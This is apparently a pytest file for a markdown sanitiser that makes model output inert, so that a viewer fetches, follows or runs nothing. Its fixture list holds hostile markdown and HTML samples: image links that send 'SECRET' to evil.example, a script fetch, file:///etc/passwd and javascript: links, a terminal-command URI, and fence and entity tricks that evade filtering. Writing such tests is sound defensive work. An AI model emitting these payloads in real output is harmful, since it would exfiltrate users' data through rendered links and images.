"""Markdown of a model in which a viewer fetches, follows and runs nothing; code stays as it is."""

from __future__ import annotations

import random
import re

import pytest

from agents.markdown import InertFilter, hide_addresses, make_inert

FENCE = "```py\nx = '![a](http://x)' + \"<img src=https://x>\" & [a](b) $y$\n[z]: https://x\n```\n"
LIVE = [
    "![x](https://evil.example/?d=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
    "![][r]\n[r]:\nhttps://evil.example/SECRET",
    "[click](https://evil.example/?d=SECRET)",
    "[click](\nhttps://evil.example/?d=SECRET)",
    "[click](<https://evil.example/?d=SECRET>)",
    "[run](command:workbench.action.terminal.sendSequence?%22x%22)",
    "[open](file:///etc/passwd) and [this](vscode://a.b/c) and [that](javascript:alert(1))",
    "<img src=https://evil.example/SECRET>",
    "<img\nsrc='https://evil.example/SECRET'\n>",
    "<script>fetch('https://evil.example')</script>",
    "<div>\n```\n</div>\n<img src=x>\n```",
    "<!-- x --> <?php x ?> <![CDATA[x]]> <a href=x>y</a> </b>",
    "<https://evil.example/SECRET> <me@evil.example>",
    "see https://evil.example/?d=SECRET, //evil.example/x, www.evil.example/?x and mailto:a@b.c?body=SECRET",
    "https&#58;//evil.example https&colon;&sol;&sol;evil.example &#60;img src=x&#62;",
    "ht*tps:/*/evil.example https:\\/\\/evil.example https:**//evil.example**",
    "| `a | <img src=https://evil.example> ` |\n| --- |",
    "$`$ ![](https://evil.example) `",
    "$$\n```\n$$\n![](https://evil.example)\n```",
    "---\n```\n---\n![](https://evil.example)\n```",
    "- a\n  ```\n  code\n![](https://evil.example)\n  ```\n![](https://evil.example)",
    "> ```\n> code\n![](https://evil.example)\n> ```",
    "para\n    ```\n    ![](https://evil.example)\n    ```",
    "``` a`b\n![](https://evil.example)\n```",
    "```\ncode\n``` \n![](https://evil.example)",
    "````\ncode\n```\n````\n![](https://evil.example)",
    "~~~\ncode\n~~~~\n![](https://evil.example)",
    "`open\n\n![](https://evil.example)`",
    "``a`` https://evil.example `` b ` c https://evil.example",
    "``a``https://evil.example`` b",
    "\\`![](https://evil.example)\\`",
    "\\\\\\`![](https://evil.example)`",
    "https://evil.example/\\` ![](https://evil.example) `",
    "a\r```\r![](https://evil.example)\r```\r![](https://evil.example)",
]


def extract_plain_text(shown: str) -> str:
    """Return the text that a viewer does not take for code, by CommonMark's rules for fences and code spans."""
    left: list[str] = []
    fence = ""
    for line in re.split(r"\r\n|\n|\r", shown):
        opened = re.match(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})", line)
        if fence:
            fence = "" if re.fullmatch(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*", line) else fence
        elif opened:
            fence = opened[1]
        else:
            left.append(hide_code_spans(line))
    return "\n".join(left)


def hide_code_spans(line: str) -> str:
    """Return the line with a bullet in place of each code span, found from the left as viewers do."""
    shown, at = "", 0
    while at < len(line):
        if line[at] == "\\":
            shown, at = shown + line[at : at + 2], at + 2
            continue
        ticks = re.compile("`+").match(line, at)
        if ticks is None:
            shown, at = shown + line[at], at + 1
            continue
        later = re.compile("`+").finditer(line, ticks.end())
        closing = next((one for one in later if len(one[0]) == len(ticks[0])), None)
        shown, at = (f"{shown}\N{BULLET}", closing.end()) if closing else (shown + ticks[0], ticks.end())
    return shown


def find_problems(shown: str) -> list[str]:
    text = extract_plain_text(shown)
    patterns = [r"<[A-Za-z/!?]", r"\]\(", r"\]:", r"\]\[", r"//\w", r"www\.", r"mailto:"]
    patterns += [r"(?<!\\)(?:\\\\)*\$", r"&#", r"&(?!amp;|lt;)\w+;"]
    return [found[0] for pattern in patterns for found in re.finditer(pattern, text)]


@pytest.mark.parametrize("text", [one for one in LIVE if "- a\n" not in one and not one.startswith("---")])
def test_no_active_content_is_left(text: str) -> None:
    assert find_problems(make_inert(text)) == []


@pytest.mark.parametrize("text", [one for one in LIVE if "- a\n" in one or one.startswith("---")])
def test_where_viewers_differ_nothing_counts_as_code(text: str) -> None:
    assert re.search(r"(?<!`)!\[\]\(", make_inert(text)) is None


@pytest.mark.parametrize(
    "text",
    [
        FENCE,
        f"It adds.\n\n{FENCE}\nAnd then:\n\n{FENCE}",
        FENCE.replace("```", "~~~~"),
        "1. First\n\n   ```js\n   a(`${b}`, <img>)\n   ```\n2. Then\n",
        "Call `List<String>` or ``a ` b`` with `![x](https://x)`.",
        "# Title\n\n- *one* and **two** _three_\n- a < b && c > d, x[0] = (1)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "Wird größer, 日本語も、 emoji 🎉 too.\r\nNext.\r\n",
        "",
        "\n",
    ],
)
def test_code_and_ordinary_words_stay_as_they_are(text: str) -> None:
    assert make_inert(text) == text


def test_what_is_made_inert_can_still_be_read() -> None:
    assert make_inert("See [docs](https://d.org/x), costs $5.") == "See `[docs](https://d.org/x),` costs \\$5."
    assert make_inert("A <b>bold</b> & [x](y) [z]: w") == "A &lt;b>bold&lt;/b> & [x]\\(y) [z]\\: w"


PIECES = ["`", "``", "```", "\n", "\r\n", "\r", " ", "a", "https://x", "](", "![", "<img", "|", "\\", "~~~", "  ", "$"]
PIECES += ["&#5", "---", "- ", "]", "(", ":", "word ", "<", "!", "//x", "\t"]


def test_any_division_into_pieces_gives_the_same_inert_text() -> None:
    chance = random.Random(20)  # noqa: S311 (the same texts each time)
    for _ in range(4000):
        text = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 25)))
        filtering, shown, at = InertFilter(), "", 0
        while at < len(text):
            length = chance.randint(1, 4)
            shown += filtering.feed(text[at : at + length])
            at += length
        shown += filtering.finish()
        assert shown == make_inert(text), text
        if not re.search(r"^[ >]*[-+] |^---|^\s+[`~]|\|", text, re.MULTILINE):
            assert find_problems(shown) == [], text


def test_words_come_as_soon_as_they_are_whole() -> None:
    filtering = InertFilter()
    assert filtering.feed("It squ") == "It "
    assert filtering.feed("ares `x") == "squares "
    assert filtering.feed("` and") == "`x` "
    assert filtering.finish() == "and"


def test_a_sentence_that_is_no_markdown_loses_its_addresses() -> None:
    assert (
        hide_addresses("Use // here, see https://evil.example/?d=1 or `a // b`.")
        == "Use // here, see (address) or `a // b`."
    )
